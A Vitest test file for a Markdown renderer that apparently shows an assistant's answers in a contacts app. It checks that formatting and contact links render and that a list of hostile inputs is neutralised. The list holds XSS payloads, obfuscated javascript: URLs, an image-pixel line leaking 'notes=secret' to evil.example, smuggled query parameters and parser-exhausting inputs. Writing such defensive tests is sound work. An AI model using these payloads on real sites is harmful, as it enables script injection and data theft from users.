import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, test } from 'vitest';
import { ContactLink } from './contact-link.tsx';
import Markdown from './markdown.tsx';

afterEach(cleanup);

const BEATRIZ = '0192f0c1-7a00-7000-8000-000000000042';
const drawn = (text: string) =>
  render(<Markdown text={text} link={(id, name) => <ContactLink id={id}>{name}</ContactLink>} />).container;

test('an answer shows its emphasis, lists and tables', () => {
  const answer = drawn(
    '**Two** birthdays:\n\n1. Adaeze\n2. *Chiara*\n\n| who | when |\n|---|---|\n| Adaeze | Thursday |',
  );
  expect(answer.querySelector('strong')?.textContent).toBe('Two');
  expect([...answer.querySelectorAll('ol > li')].map(({ textContent }) => textContent)).toEqual(['Adaeze', 'Chiara']);
  expect(answer.querySelector('td')?.textContent).toBe('Adaeze');
});

test('a name that the answer links opens its contact', () => {
  const link = drawn(`Call [Beatriz](contact:${BEATRIZ}).`).querySelector('a');
  expect(link?.textContent).toBe('Beatriz');
  expect(link?.getAttribute('href')).toBe(`?contact=${BEATRIZ}`);
});

describe('nothing in an answer becomes HTML, is fetched or leads out of the product', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'text <b onclick="alert(1)">bold</b> text',
    '<iframe src="https://evil.example"></iframe>',
    '<svg/onload=alert(1)>',
    '<style>body{display:none}</style>',
    '<a href="https://evil.example">click</a>',
    '<!-- --><form action=//evil.example><input>',
    '![pixel](https://evil.example/pixel.png?notes=secret)',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
    '[![x](https://evil.example/a.png)](https://evil.example)',
    '![ref][1]\n\n[1]: https://evil.example/p.png',
    '[click](https://evil.example)',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click](java&#115;cript:alert(1))',
    '[click](data:text/html,<script>alert(1)</script>)',
    '[click](vbscript:x)',
    '[click](//evil.example)',
    '[click](/api/auth/logout)',
    '[click](?contact=x)',
    '[click][1]\n\n[1]: https://evil.example',
    '<https://evil.example>',
    'https://evil.example/path',
    'www.evil.example',
    'me@evil.example',
    '[mail](mailto:me@evil.example)',
    '[x](contact:not-an-id)',
    `[x](contact:${BEATRIZ}/../../evil)`,
    `[x](contact:${BEATRIZ}&tab=admin)`,
    `[x](https://evil.example/contact:${BEATRIZ})`,
    '- [ ] <img src=x>\n  > <img src=y>',
    '| <img src=x> |\n|---|\n| ![](https://evil.example/x) |',
    `${'> '.repeat(3000)}deep`,
    `${'['.repeat(3000)}${']'.repeat(3000)}`,
    '*a '.repeat(2000),
  ])('%#: %.60s', (hostile) => {
    const answer = drawn(hostile);
    const elements = [...answer.querySelectorAll('*')];
    expect(
      answer.querySelector('a, img, script, iframe, style, svg, form, input, b, video, object, embed, link'),
    ).toBeNull();
    const attributes = elements.flatMap((element) => element.getAttributeNames());
    expect(attributes.filter((name) => !['class', 'dir', 'start'].includes(name))).toEqual([]);
  });
});
